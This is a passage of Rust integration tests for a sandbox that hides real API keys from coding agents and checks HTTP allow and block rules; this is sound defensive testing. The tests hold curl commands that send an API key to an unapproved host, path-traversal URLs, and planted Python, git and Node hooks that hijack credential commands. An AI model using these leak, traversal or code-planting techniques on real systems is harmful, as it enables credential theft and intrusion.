        text(&o).contains(&format!("\"GET https://inject.test:{ip}/v1/**\",")),
        "{}",
        text(&o)
    );
    let script = format!(
        r#"
c() {{ n=$1; shift; curl -sS --max-time 20 -o /dev/null -w "$n %{{http_code}}\n" "$@"; }}
c get-v1 "https://inject.test:{ip}/v1/models" -H "Authorization: Bearer $OPENAI_API_KEY"
c post-chat -X POST --data x "https://inject.test:{ip}/v1/chat" -H "Authorization: Bearer $OPENAI_API_KEY"
c delete-v1 -X DELETE "https://inject.test:{ip}/v1/models" -H "Authorization: Bearer $OPENAI_API_KEY"
c get-admin "https://inject.test:{ip}/admin" -H "Authorization: Bearer $OPENAI_API_KEY"
c dots --path-as-is "https://inject.test:{ip}/v1/../admin"
c encoded-dots --path-as-is "https://inject.test:{ip}/v1/%2e%2e/admin"
c plain-ok "http://other.test:{op}/ok"
c plain-admin "http://other.test:{op}/admin/x"
c tunnel-admin -p "http://other.test:{op}/admin/y"
true
"#
    );
    let o = w.run(&script);
    let t = text(&o);
    assert!(o.status.success(), "{t}");
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    for want in [
        "get-v1 200",
        "post-chat 200",
        "delete-v1 403",
        "get-admin 403",
        "dots 403",
        "encoded-dots 403",
        "plain-ok 200",
        "plain-admin 403",
        "tunnel-admin 403",
    ] {
        assert!(out.contains(want), "{want}: {t}");
    }
    let got = w.inject.received();
    assert!(
        got.contains("GET /v1/models ") && got.contains("POST /v1/chat "),
        "{got}"
    );
    assert!(!got.contains("DELETE") && !got.contains("admin"), "{got}");
    let other = w.other.received();
    assert!(
        other.contains("GET /ok ") && !other.contains("admin"),
        "{other}"
    );
    let logs = w.logs();
    assert!(logs.contains("network.http.allow"), "{logs}");
    assert!(logs.contains("network.http.block"), "{logs}");

    // explain agrees with the run.
    let explain = |m: &str, url: String| {
        let o =
            w.h.sandpit()
                .args(["explain", "http", m, &url])
                .output()
                .unwrap();
        text(&o)
    };
    let e = explain("GET", format!("https://inject.test:{ip}/v1/models"));
    assert!(e.contains("ALLOW"), "{e}");
    let e = explain("DELETE", format!("https://inject.test:{ip}/v1/models"));
    assert!(
        e.contains("DENY") && e.contains("network.http.allow"),
        "{e}"
    );
    let e = explain("GET", format!("http://other.test:{op}/admin/1"));
    assert!(
        e.contains("DENY") && e.contains("network.http.block"),
        "{e}"
    );
    w.assert_no_real_value(&o);
}

#[test]
fn an_https_rule_sandpit_cannot_enforce_stops_the_run() {
    let w = World::with(|_, pp, _| {
        format!("[network.http]\nallow = [\"GET https://passthru.test:{pp}/**\"]\n")
    });
    let o = w.run("touch ran");
    let t = text(&o);
    assert!(!o.status.success(), "{t}");
    assert!(!w.h.workspace().join("ran").exists(), "{t}");
    assert!(
        t.contains("network.http.allow") && t.contains("config.toml:"),
        "{t}"
    );
    // `sandpit plan` refuses it with the same words: the run's plan decides.
    let p = w.h.sandpit().args(["plan", "--", "true"]).output().unwrap();
    assert!(!p.status.success(), "{}", text(&p));
    let line = |t: &str| {
        t.lines()
            .find(|l| l.contains("network.http.allow"))
            .map(str::to_string)
    };
    assert_eq!(line(&text(&p)), line(&t), "{}", text(&p));
    // The control: the same world without the entry runs.
    let w = World::new();
    let o = w.run("touch ran");
    assert!(o.status.success(), "{}", text(&o));
    assert!(w.h.workspace().join("ran").exists());
}

#[test]
fn the_plan_lists_the_sentinels_and_the_ca_and_the_run_sets_them() {
    let w = World::new();
    let p = w
        .sandpit()
        .args(["plan", "--json", "--", "true"])
        .output()
        .unwrap();
    assert!(p.status.success(), "{}", text(&p));
    let plan: serde_json::Value = serde_json::from_slice(&p.stdout).unwrap();
    let c = &plan["credentials"];
    let envs: Vec<&str> = (c["sentinels"].as_array().unwrap().iter())
        .map(|s| s["env"].as_str().unwrap())
        .collect();
    assert_eq!(envs, ["OPENAI_API_KEY", "SECOND_TOKEN"], "{c}");
    let planned: Vec<(String, String)> = (c["ca_env"].as_array().unwrap().iter())
        .map(|v| {
            let s = |k: &str| v[k].as_str().unwrap().to_string();
            (s("name"), s("value"))
        })
        .collect();
    // Planning reads no real value: nothing it prints holds one.
    let shown = String::from_utf8_lossy(&p.stdout);
    assert!(
        !shown.contains(REAL) && !shown.contains(REAL_SECOND),
        "{shown}"
    );
    // The run sets what the plan says: a sentinel in each variable, and each CA
    // variable at the plan's file name in the run's own directory.
    let o = w.run("env");
    let t = text(&o);
    assert!(o.status.success(), "{t}");
    for env in envs {
        assert!(
            t.contains(&format!("{env}=sandpit-sentinel-")),
            "{env}: {t}"
        );
    }
    for (name, value) in &planned {
        let file = std::path::Path::new(value)
            .file_name()
            .unwrap()
            .to_str()
            .unwrap();
        let set = t
            .lines()
            .find_map(|l| l.strip_prefix(&format!("{name}=")))
            .unwrap_or_else(|| panic!("{name} unset: {t}"));
        assert!(
            set.ends_with(&format!("/{file}")),
            "{name}={set}, planned {value}"
        );
    }
    assert!(
        planned.iter().any(|(n, _)| n == "SSL_CERT_FILE"),
        "{planned:?}"
    );
    // The default `AWS_*` withhold does not take the run's own CA variable, and
    // explain says so, as the run did.
    let o =
        w.h.sandpit()
            .args([
                "explain",
                "env",
                "AWS_CA_BUNDLE",
                "--program",
                "/usr/bin/aws",
            ])
            .output()
            .unwrap();
    let e = text(&o);
    assert!(
        e.contains("ALLOW") && e.contains("certificate authority"),
        "{e}"
    );
}

/// A TLS front for the scripted model server (plain HTTP on loopback): terminates
/// TLS with the test CA's certificate for `model.test`, forwards the bytes, and
/// records what the client sent (its headers: the key the agent presented).
struct TlsFront {
    port: u16,
    seen: Arc<Mutex<Vec<u8>>>,
    _rt: tokio::runtime::Runtime,
}

impl TlsFront {
    fn start(ip: &str, cfg: Arc<rustls::ServerConfig>, backend: std::net::SocketAddr) -> TlsFront {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        let rt = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(1)
            .enable_all()
            .build()
            .unwrap();
        let l = std::net::TcpListener::bind((ip, 0)).unwrap();
        let port = l.local_addr().unwrap().port();
        l.set_nonblocking(true).unwrap();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let s2 = seen.clone();
        rt.spawn(async move {
            let l = tokio::net::TcpListener::from_std(l).unwrap();
            let acceptor = tokio_rustls::TlsAcceptor::from(cfg);
            loop {
                let Ok((tcp, _)) = l.accept().await else {
                    continue;
                };
                let (acceptor, seen) = (acceptor.clone(), s2.clone());
                tokio::spawn(async move {
                    let Ok(tls) = acceptor.accept(tcp).await else {
                        return;
                    };
                    let Ok(up) = tokio::net::TcpStream::connect(backend).await else {
                        return;
                    };
                    let (mut cr, mut cw) = tokio::io::split(tls);
                    let (mut ur, mut uw) = up.into_split();
                    let c2u = async {
                        let mut buf = vec![0u8; 65536];
                        loop {
                            let n = match cr.read(&mut buf).await {
                                Ok(0) | Err(_) => break,
                                Ok(n) => n,
                            };
                            seen.lock().unwrap().extend_from_slice(&buf[..n]);
                            if uw.write_all(&buf[..n]).await.is_err() {
                                break;
                            }
                        }
                        let _ = uw.shutdown().await;
                    };
                    let u2c = async {
                        let _ = tokio::io::copy(&mut ur, &mut cw).await;
                        let _ = cw.shutdown().await;
                    };
                    tokio::join!(c2u, u2c);
                });
            }
        });
        TlsFront {
            port,
            seen,
            _rt: rt,
        }
    }
    fn seen(&self) -> String {
        String::from_utf8_lossy(&self.seen.lock().unwrap()).into_owned()
    }
}

/// A real agent, given only a sentinel, talks to a scripted model over HTTPS: the
/// model's host receives the real key, the agent's environment holds the sentinel.
struct AgentStage {
    h: TestHome,
    model: agents_support::ModelServer,
    front: TlsFront,
}

const AGENT_REAL: &str = "sk-proj-REALagentKEY0123456789abcdef";

impl AgentStage {
    fn new() -> AgentStage {
        AgentStage::masking(None)
    }

    /// With `credentials.openai.file` naming `file` (under HOME), which holds the key.
    fn masking(file: Option<&str>) -> AgentStage {
        AgentStage::with("OPENAI_API_KEY", file)
    }

    /// The model's key in `env` (the user's credential for it replaces the agent
    /// profile's own).
    fn with(env: &str, file: Option<&str>) -> AgentStage {
        let h = home();
        let file_line = match file {
            Some(f) => {
                h.write(
                    &h.home().join(f),
                    &format!("{{\"OPENAI_API_KEY\": \"{AGENT_REAL}\"}}\n"),
                );
                format!("file = \"~/{f}\"\n")
            }
            None => String::new(),
        };
        let ca = TestCa::new();
        let model = agents_support::ModelServer::start(
            "127.0.0.7",
            vec![agents_support::Step::Text(
                "Done: nothing to change.".into(),
            )],
        );
        let front = TlsFront::start(
            "127.0.0.8",
            ca.server_config("model.test"),
            format!("127.0.0.7:{}", model.port).parse().unwrap(),
        );
        h.write(&h.home().join("test-ca.pem"), &ca.pem);
        h.user_config(&format!(
            r#"[network]
allow = ["model.test:{}"]
[network.resolve]
"model.test" = "127.0.0.8"
[network.tls]
extra_roots = ["~/test-ca.pem"]
[credentials.openai]
env = "{env}"
source = "env:REAL_OPENAI_KEY"
hosts = ["model.test"]
{file_line}"#,
            front.port
        ));
        AgentStage { h, model, front }
    }

    fn run(&self, cmd: &[&str]) -> std::process::Output {
        self.run_with(&[], cmd)
    }

    /// `sandpit run -- CMD` with `env` besides the real key's source.
    fn run_with(&self, env: &[(&str, String)], cmd: &[&str]) -> std::process::Output {
        self.h
            .sandpit()
            .env("REAL_OPENAI_KEY", AGENT_REAL)
            .envs(env.iter().map(|(k, v)| (k, v)))
            .arg("run")
            .arg("--")
            .args(cmd)
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap()
    }

    /// The agent finished against the model, which saw the real key and never a
    /// sentinel; nothing the run printed or logged holds the real key.
    fn assert_injected(&self, o: &std::process::Output, agent: &str) {
        let seen = self.front.seen();
        assert!(
            seen.contains(&format!("Bearer {AGENT_REAL}")),
            "{agent}: the model got the real key: {seen}"
        );
        self.assert_real_key_only(o, agent);
    }

    /// [`AgentStage::assert_injected`] for any way of sending the key (a bearer
    /// token, `x-api-key`, `x-goog-api-key`, the query).
    fn assert_real_key_only(&self, o: &std::process::Output, agent: &str) {
        self.assert_said(o, agent, "Done: nothing to change.");
    }

    /// [`AgentStage::assert_real_key_only`] for an agent that prints `said` when
    /// the model has answered (aider: "All done.", not the reply).
    fn assert_said(&self, o: &std::process::Output, agent: &str, said: &str) {
        let t = text(o);
        assert!(t.contains(said), "{agent}: {t}");
        self.assert_reached(o, agent);
    }

    /// The run ended well and the model saw the real key, never a sentinel; nothing
    /// the run printed or logged holds the real key.
    fn assert_reached(&self, o: &std::process::Output, agent: &str) {
        let t = text(o);
        assert!(o.status.success(), "{agent}: {t}");
        assert!(!self.model.requests().is_empty(), "{agent}: {t}");
        let seen = self.front.seen();
        assert!(
            seen.contains(AGENT_REAL),
            "{agent}: the model got the real key: {seen}"
        );
        assert!(!seen.contains("sandpit-sentinel-"), "{agent}: {seen}");
        assert!(!t.contains(AGENT_REAL), "{agent}: {t}");
        let dir = self.h.home().join(".sandpit/logs");
        for e in std::fs::read_dir(&dir).unwrap().flatten() {
            let log = std::fs::read_to_string(e.path()).unwrap();
            assert!(!log.contains(AGENT_REAL), "{agent}: {log}");
        }
    }
}

#[test]
fn pi_talks_to_its_model_with_only_a_sentinel() {
    let s = AgentStage::new();
    let models = serde_json::json!({"providers": {"scripted": {
        "baseUrl": format!("https://model.test:{}/v1", s.front.port),
        "api": "openai-completions", "apiKey": "OPENAI_API_KEY",
        "compat": {"supportsDeveloperRole": false, "supportsReasoningEffort": false},
        "models": [{"id": "scripted-model", "reasoning": false}]
    }}});
    s.h.write(
        &s.h.home().join(".pi/agent/models.json"),
        &models.to_string(),
    );
    let o = s.run(&[
        "pi",
        "--no-session",
        "--offline",
        "--provider",
        "scripted",
        "--model",
        "scripted-model",
        "-p",
        "Say done.",
    ]);
    s.assert_injected(&o, "pi");
}

/// Claude Code (a Bun-compiled binary) trusts the run's CA (`NODE_EXTRA_CA_CERTS`)
/// and reaches its model by name over TLS with the real key put in by the proxy:
/// what a zero-configuration `sandpit run -- claude` does with the profile's
/// credential for `ANTHROPIC_API_KEY`, here bound to the scripted model's host.
#[test]
fn claude_talks_to_its_model_over_tls_with_only_a_sentinel() {
    let s = AgentStage::with("ANTHROPIC_API_KEY", None);
    s.h.write(&s.h.home().join(".claude.json"), "{}");
    let env = [
        (
            "ANTHROPIC_BASE_URL",
            format!("https://model.test:{}", s.front.port),
        ),
        ("ANTHROPIC_API_KEY", "sk-ant-placeholder".into()),
        ("CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC", "1".into()),
    ];
    let o = s.run_with(&env, &["claude", "-p", "Say done."]);
    s.assert_real_key_only(&o, "claude");
}

/// gemini-cli (Node) the same way, with the profile's `GEMINI_API_KEY`: the key
/// goes in a header or the query, both of which the proxy rewrites.
#[test]
fn gemini_talks_to_its_model_over_tls_with_only_a_sentinel() {
    let s = AgentStage::with("GEMINI_API_KEY", None);
    s.h.write(
        &s.h.home().join(".gemini/settings.json"),
        &serde_json::json!({
            "security": {"auth": {"selectedType": "gemini-api-key"}, "folderTrust": {"enabled": false}},
            "privacy": {"usageStatisticsEnabled": false},
            "general": {"enableAutoUpdate": false, "enableAutoUpdateNotification": false}
        })
        .to_string(),
    );
    let env = [
        (
            "GOOGLE_GEMINI_BASE_URL",
            format!("https://model.test:{}", s.front.port),
        ),
        ("GEMINI_API_KEY", "placeholder".into()),
    ];
    let o = s.run_with(
        &env,
        &["gemini", "-m", "gemini-2.5-flash", "-p", "Say done."],
    );
    s.assert_real_key_only(&o, "gemini");
}

/// opencode (Bun-compiled) the same way, its provider's key named in its own config
/// as `{env:OPENAI_API_KEY}`.
#[test]
fn opencode_talks_to_its_model_over_tls_with_only_a_sentinel() {
    let s = AgentStage::new();
    let config = serde_json::json!({
        "$schema": "https://opencode.ai/config.json",
        "model": "scripted/scripted-model",
        "autoupdate": false,
        "share": "disabled",
        "provider": {"scripted": {
            "npm": "@ai-sdk/openai-compatible",
            "name": "scripted",
            "options": {
                "baseURL": format!("https://model.test:{}/v1", s.front.port),
                "apiKey": "{env:OPENAI_API_KEY}"
            },
            "models": {"scripted-model": {"name": "scripted-model"}}
        }}
    });
    s.h.write(
        &s.h.home().join(".config/opencode/opencode.json"),
        &config.to_string(),
    );
    let env = [("OPENCODE_DISABLE_AUTOUPDATE", "1".to_string())];
    let o = s.run_with(&env, &["opencode", "run", "Say done."]);
    s.assert_injected(&o, "opencode");
}

/// aider (Python, litellm over httpx: `SSL_CERT_FILE`) the same way, its base URL
/// given on the command line.
#[test]
fn aider_talks_to_its_model_over_tls_with_only_a_sentinel() {
    let s = AgentStage::new();
    // The model's limits, as aider reads them from the workspace (else it fetches
    // litellm's price list).
    s.h.write(
        &s.h.workspace().join(".aider.model.metadata.json"),
        &serde_json::json!({"openai/scripted-model": {"max_input_tokens": 128000,
            "max_output_tokens": 4096, "max_tokens": 4096, "input_cost_per_token": 0,
            "output_cost_per_token": 0, "litellm_provider": "openai", "mode": "chat"}})
        .to_string(),
    );
    let base = format!("https://model.test:{}/v1", s.front.port);
    let env = [("LITELLM_LOCAL_MODEL_COST_MAP", "True".to_string())];
    let o = s.run_with(
        &env,
        &[
            "/opt/sandpit-agents/aider/bin/aider",
            "--model",
            "openai/scripted-model",
            "--openai-api-base",
            &base,
            "--no-git",
            "--no-check-update",
            "--no-analytics",
            "--no-show-model-warnings",
            "--no-show-release-notes",
            "--no-fancy-input",
            "--no-pretty",
            "--message",
            "Say done.",
        ],
    );
    let seen = s.front.seen();
    assert!(
        seen.contains(&format!("Bearer {AGENT_REAL}")),
        "aider: {seen}"
    );
    s.assert_said(&o, "aider", "All done.");
}

#[test]
fn codex_talks_to_its_model_with_only_a_sentinel() {
    // codex's auth file (readable and in a writable root under codex's profile)
    // holds the key too: the sandbox sees it masked.
    let s = AgentStage::masking(Some(".codex/auth.json"));
    s.h.write(
        &s.h.home().join(".codex/config.toml"),
        &format!(
            "model = \"scripted-model\"\nmodel_provider = \"scripted\"\n\
             [model_providers.scripted]\nname = \"scripted\"\n\
             base_url = \"https://model.test:{}/v1\"\nenv_key = \"OPENAI_API_KEY\"\n\
             wire_api = \"responses\"\nrequest_max_retries = 0\nstream_max_retries = 0\n",
            s.front.port
        ),
    );
    let o = s.run(&[
        "codex",
        "exec",
        "--skip-git-repo-check",
        "--dangerously-bypass-approvals-and-sandbox",
        "Say done.",
    ]);
    s.assert_injected(&o, "codex");
    let o = s.run(&["sh", "-c", "cat ~/.codex/auth.json; echo $OPENAI_API_KEY"]);
    let t = text(&o);
    let out = String::from_utf8_lossy(&o.stdout);
    let sentinel = out.lines().last().unwrap_or_default().to_string();
    assert!(sentinel.starts_with("sandpit-sentinel-openai-"), "{t}");
    assert!(
        out.contains(&format!("{{\"OPENAI_API_KEY\": \"{sentinel}\"}}")),
        "{t}"
    );
    assert!(!t.contains(AGENT_REAL), "{t}");
}

#[test]
fn without_the_interposer_and_offline_the_sentinel_still_stands_in() {
    let w = World::new();
    let port = w.inject.port;
    // The kernel layer alone (as a static program meets it): the proxy variables.
    let o = w.sandpit()
        .args(["run", "--kernel-only", "--", "sh", "-c"])
        .arg(format!(
            "curl -sS --max-time 20 https://inject.test:{port}/ko -H \"Authorization: Bearer $OPENAI_API_KEY\"; echo; \
             curl -sS --max-time 20 -o /dev/null -w 'leak %{{http_code}}\\n' http://other.test:{}/ko -H \"x: $OPENAI_API_KEY\""
            , w.other.port
        ))
        .output()
        .unwrap();
    let t = text(&o);
    assert!(o.status.success(), "{t}");
    assert!(t.contains("tls:inject") && t.contains("leak 403"), "{t}");
    assert!(
        w.inject.received().contains(&format!("Bearer {REAL}")),
        "{t}"
    );
    assert!(!w.other.received().contains("/ko"), "{t}");
    // Offline: no proxy at all, and still only the sentinel inside.
    let o = w
        .sandpit()
        .args([
            "run",
            "--network",
            "offline",
            "--",
            "sh",
            "-c",
            "echo \"K=$OPENAI_API_KEY\"; cat ~/.tool/auth.json",
        ])
        .output()
        .unwrap();
    let t = text(&o);
    assert!(o.status.success(), "{t}");
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    assert!(
        sentinel_in(&out, "K").starts_with("sandpit-sentinel-openai-"),
        "{t}"
    );
    assert!(!t.contains(REAL) && !t.contains(REAL_SECOND), "{t}");
}

#[test]
fn a_masked_file_without_a_mount_namespace_stops_the_run() {
    let w = World::new();
    let o = w
        .sandpit()
        .env("SANDPIT_FORCE_FALLBACK", "1")
        .args(["run", "--allow-degraded", "--", "sh", "-c", "touch ran"])
        .output()
        .unwrap();
    let t = text(&o);
    assert!(!o.status.success(), "{t}");
    assert!(!w.h.workspace().join("ran").exists(), "{t}");
    assert!(t.contains("credentials.openai.file"), "{t}");
    assert!(!t.contains(REAL), "{t}");
    // The control: the same fallback without the file key runs, the sentinel inside.
    let cfg = w.h.user_config_path();
    let text_cfg = std::fs::read_to_string(&cfg)
        .unwrap()
        .replace("file = \"~/.tool/auth.json\"\n", "");
    w.h.write(&cfg, &text_cfg);
    let o = w
        .sandpit()
        .env("SANDPIT_FORCE_FALLBACK", "1")
        .args([
            "run",
            "--allow-degraded",
            "--",
            "sh",
            "-c",
            "touch ran; echo $OPENAI_API_KEY",
        ])
        .output()
        .unwrap();
    let t = text(&o);
    assert!(o.status.success(), "{t}");
    assert!(w.h.workspace().join("ran").exists(), "{t}");
    assert!(
        t.contains("sandpit-sentinel-openai-") && !t.contains(REAL),
        "{t}"
    );
}

/// A credential whose source is `command` and whose value is also in `~/NAME.json`
/// (`credentials.NAME.file`): the run stops unless the command gave that value, so
/// a run that starts shows the value arrived. The user's config, as TOML.
fn command_credential(h: &TestHome, name: &str, command: &str, value: &str) -> String {
    h.write(
        &h.home().join(format!("{name}.json")),
        &format!("{{\"key\": \"{value}\"}}\n"),
    );
    format!(
        "[credentials.{name}]\nenv = \"{var}\"\nsource = '''command:{command}'''\nhosts = [\"inject.test\"]\nfile = \"~/{name}.json\"\n",
        var = name.to_ascii_uppercase()
    )
}

/// `sandpit run` (as the test user, in the workspace, with `env`): the run starts
/// and each credential's file shows its sentinel. The output.
fn run_with_credentials(h: &TestHome, names: &[&str], env: &[(&str, String)]) -> String {
    let script: String = names.iter().map(|n| format!("cat ~/{n}.json; ")).collect();
    let mut c = h.sandpit();
    for (k, v) in env {
        c.env(k, v);
    }
    let o = c.args(["run", "--", "sh", "-c", &script]).output().unwrap();
    let t = text(&o);
    assert!(o.status.success(), "{t}");
    for n in names {
        assert!(t.contains(&format!("sandpit-sentinel-{n}-")), "{n}: {t}");
    }
    t
}

/// A `command:` source runs outside the sandbox, before it starts: what a run left
/// in the workspace must not run there. A `json.py` planted in the project is what
/// `python3 -c "import json"` imports when run from the project; sandpit runs the
/// command in `/` (issue 41). The plant runs bare (the control); under sandpit the
/// value still arrives and the plant never runs.
#[test]
fn a_module_planted_in_the_workspace_is_not_imported_by_a_credential_command() {
    let h = home();
    let canary = h.home().join("planted-json-ran");
    h.write(
        &h.workspace().join("json.py"),
        &format!(
            "open({:?}, 'w').write('x')\ndef dumps(o):\n    return 'x'\n",
            canary.to_str().unwrap()
        ),
    );
    let cmd = "python3 -c \"import json; print(json.dumps(1) and 'value-json-1234567890')\"";
    // Bare, from the project, the plant runs.
    let o = h.command("sh").args(["-c", cmd]).output().unwrap();
    assert!(o.status.success(), "{}", text(&o));
    assert!(canary.exists(), "the plant did not run bare: {}", text(&o));
    std::fs::remove_file(&canary).unwrap();
    h.user_config(&command_credential(&h, "tok", cmd, "value-json-1234567890"));
    let t = run_with_credentials(&h, &["tok"], &[]);
    assert!(!canary.exists(), "the planted json.py ran on the host: {t}");
    assert!(!t.contains("value-json-1234567890"), "{t}");
}

/// A `git` planted in a workspace directory on sandpit's PATH, as an absolute
/// entry and as a relative one (taken from the project): a credential command
/// that runs `git` gets the user's git, never the plant (issue 41). The plant runs
/// bare with the same PATH (the control); under sandpit the value still arrives.
#[test]
fn a_program_planted_on_path_in_the_workspace_is_not_run_by_a_credential_command() {
    let h = home();
    let canary = h.home().join("planted-git-ran");
    let plant = h.workspace().join("bin/git");
    h.write(
        &plant,
        &format!(
            "#!/bin/sh\ntouch {:?}\nexec /usr/local/bin/git \"$@\"\n",
            canary.to_str().unwrap()
        ),
    );
    std::fs::set_permissions(&plant, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let ini = h.home().join("cred.ini");
    h.write(&ini, "[cred]\n\ttoken = value-git-1234567890\n");
    let cmd = format!("git config --file {} cred.token", ini.display());
    h.user_config(&command_credential(&h, "tok", &cmd, "value-git-1234567890"));
    let system = "/usr/local/bin:/usr/bin:/bin";
    for path in [
        format!("{}:{system}", h.workspace().join("bin").display()),
        format!("bin:{system}"),
    ] {
        // Bare, from the project, with this PATH: the plant runs.
        let o = h
            .command("sh")
            .env("PATH", &path)
            .args(["-c", &cmd])
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", text(&o));
        assert!(canary.exists(), "{path}: the plant did not run bare");
        std::fs::remove_file(&canary).unwrap();
        let t = run_with_credentials(&h, &["tok"], &[("PATH", path.clone())]);
        assert!(
            !canary.exists(),
            "{path}: the planted git ran on the host: {t}"
        );
    }
}

/// Variables that make an interpreter load code from a place they name
/// (`PYTHONPATH`, `NODE_OPTIONS=--require …`), pointing into the workspace, are
/// not passed to a credential command (issue 41). Both plants run bare with the
/// variable (the control); under sandpit neither runs and both values arrive.
#[test]
fn code_loading_variables_do_not_reach_a_credential_command() {
    let h = home();
    let ws = h.workspace();
    let (py_canary, node_canary) = (
        h.home().join("planted-py-ran"),
        h.home().join("planted-node-ran"),
    );
    h.write(
        &ws.join("lib/py/json.py"),
        &format!(
            "open({:?}, 'w').write('x')\ndef dumps(o):\n    return 'x'\n",
            py_canary.to_str().unwrap()
        ),
    );
    h.write(
        &ws.join("lib/hook.js"),
        &format!(
            "require('fs').writeFileSync({:?}, 'x');\n",
            node_canary.to_str().unwrap()
        ),
    );
    let env = [
        ("PYTHONPATH", ws.join("lib/py").display().to_string()),
        (
            "NODE_OPTIONS",
            format!("--require {}", ws.join("lib/hook.js").display()),
        ),
    ];
    let py = "python3 -c \"import json; print(json.dumps(1) and 'value-py-1234567890')\"";
    let node = "node -e \"console.log('value-node-1234567890')\"";
    // Bare, from / (where sandpit runs them), with the variables: both plants run.
    for (cmd, canary) in [(py, &py_canary), (node, &node_canary)] {
        let o = h
            .command("sh")
            .envs(env.iter().map(|(k, v)| (k, v)))
            .current_dir("/")
            .args(["-c", cmd])
            .output()
            .unwrap();
        assert!(o.status.success(), "{cmd}: {}", text(&o));
        assert!(canary.exists(), "{cmd}: the plant did not run bare");
        std::fs::remove_file(canary).unwrap();
    }
    let config = command_credential(&h, "py", py, "value-py-1234567890")
        + &command_credential(&h, "node", node, "value-node-1234567890");
    h.user_config(&config);
    let t = run_with_credentials(&h, &["py", "node"], &env);
    assert!(!py_canary.exists(), "PYTHONPATH reached the command: {t}");
    assert!(
        !node_canary.exists(),
        "NODE_OPTIONS reached the command: {t}"
    );
}

/// The agents' keys with no `[credentials]` of the user's (issue 42): codex's
/// profile binds `OPENAI_API_KEY` to `api.openai.com`, and codex's own config
/// (`~/.codex/config.toml`, outside the workspace) adds a custom provider's key
/// and host. `api.openai.com` and `llm.corp.test` are the scripted model behind a
/// TLS front with the test CA, by sandpit's resolver.
struct ZeroConfig {
    h: TestHome,
    model: agents_support::ModelServer,
    front: TlsFront,
}

/// The custom provider's key (its variable is codex's `env_key`).
const CORP_REAL: &str = "corp-REAL-key-5d7e9a0b1c2f";

impl ZeroConfig {
    /// codex pointed at `host` (served by the front) with its key in `env_key`;
    /// the script runs `cmd` in codex's shell, then finishes.
    fn codex(host: &str, env_key: &str, cmd: &str) -> ZeroConfig {
        let h = home();
        let ca = TestCa::new();
        let model = agents_support::ModelServer::start(
            "127.0.0.7",
            vec![
                agents_support::Step::Tool("exec_command", serde_json::json!({ "cmd": cmd })),
                agents_support::Step::Text("Done: nothing to change.".into()),
            ],
        );
        let front = TlsFront::start(
            "127.0.0.8",
            ca.server_config(host),
            format!("127.0.0.7:{}", model.port).parse().unwrap(),
        );
        h.write(&h.home().join("test-ca.pem"), &ca.pem);
        // No [credentials], no network.allow: only how the test reaches its model.
        h.user_config(&format!(
            "[network.resolve]\n\"{host}\" = \"127.0.0.8\"\n[network.tls]\nextra_roots = [\"~/test-ca.pem\"]\n"
        ));
        h.write(
            &h.home().join(".codex/config.toml"),
            &format!(
                "model = \"scripted-model\"\nmodel_provider = \"scripted\"\n\
                 [model_providers.scripted]\nname = \"scripted\"\n\
                 base_url = \"https://{host}:{}/v1\"\nenv_key = \"{env_key}\"\n\
                 wire_api = \"responses\"\nrequest_max_retries = 0\nstream_max_retries = 0\n",
                front.port
            ),
        );
        ZeroConfig { h, model, front }
    }

    fn run(&self, envs: &[(&str, &str)]) -> std::process::Output {
        let mut c = self.h.sandpit();
        for (k, v) in envs {
            c.env(k, v);
        }
        c.args([
            "run",
            "--",
            "codex",
            "exec",
            "--skip-git-repo-check",
            "--dangerously-bypass-approvals-and-sandbox",
            "Say done.",
        ])
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap()
    }

    /// codex finished against its model, which got `real` as the bearer and never
    /// a sentinel; what codex's shell printed (sent back as a tool result) holds
    /// `want` sentinels and never `real`; no output or log holds `real`.
    fn assert_only_sentinels_inside(&self, o: &std::process::Output, real: &str, want: &[&str]) {
        let t = text(o);
        assert!(o.status.success(), "{t}");
        assert!(t.contains("Done: nothing to change."), "{t}");
        let seen = self.front.seen();
        assert!(
            seen.contains(&format!("Bearer {real}")),
            "the model got the real key: {seen}\n{t}"
        );
        // In no header: what the shell printed goes back in the next request's body.
        assert!(
            !seen
                .lines()
                .any(|l| l.contains(':') && l.contains("sandpit-sentinel-") && !l.starts_with('{')),
            "a sentinel in a request head: {seen}"
        );
        let results = self.model.tool_results().join("\n----\n");
        for w in want {
            assert!(
                results.contains(w),
                "{w:?} not in the tool results: {results}\n{t}"
            );
        }
        assert!(
            !results.contains(real),
            "codex's shell saw the real key: {results}"
        );
        assert!(!t.contains(real), "{t}");
        let dir = self.h.home().join(".sandpit/logs");
        for e in std::fs::read_dir(&dir).unwrap().flatten() {
            let log = std::fs::read_to_string(e.path()).unwrap();
            assert!(!log.contains(real), "{log}");
        }
    }
}

#[test]
fn codex_zero_config_its_shell_sees_only_a_sentinel_and_its_model_the_key() {
    // codex is static: before issue 42 the key (env.agent) reached every command
    // its shell ran. Now the profile's credential: a sentinel for all, the real
    // key added by the proxy for api.openai.com alone, over TLS by the host's name.
    let z = ZeroConfig::codex(
        "api.openai.com",
        "OPENAI_API_KEY",
        "echo key=$OPENAI_API_KEY; sh -c 'echo inner=$OPENAI_API_KEY'",
    );
    let o = z.run(&[("OPENAI_API_KEY", AGENT_REAL)]);
    z.assert_only_sentinels_inside(
        &o,
        AGENT_REAL,
        &[
            "key=sandpit-sentinel-openai-",
            "inner=sandpit-sentinel-openai-",
        ],
    );
}

#[test]
fn a_custom_provider_in_codexs_own_config_gets_its_key_bound_to_its_host() {
    // model_providers.scripted.env_key = "CORP_LLM_KEY", base_url on llm.corp.test:
    // sandpit reads ~/.codex/config.toml, binds the key to that host and allows it.
    let z = ZeroConfig::codex("llm.corp.test", "CORP_LLM_KEY", "echo corp=$CORP_LLM_KEY");
    let o = z.run(&[("CORP_LLM_KEY", CORP_REAL)]);
    z.assert_only_sentinels_inside(&o, CORP_REAL, &["corp=sandpit-sentinel-codex-scripted-"]);
    // The plan names the credential and where it came from.
    let o =
        z.h.sandpit()
            .env("CORP_LLM_KEY", CORP_REAL)
            .args(["plan", "--", "codex", "exec", "x"])
            .output()
            .unwrap();
    let t = text(&o);
    assert!(o.status.success(), "{t}");
    assert!(
        t.contains(
            "codex-scripted: CORP_LLM_KEY holds a sentinel; the real value goes to llm.corp.test"
        ),
        "{t}"
    );
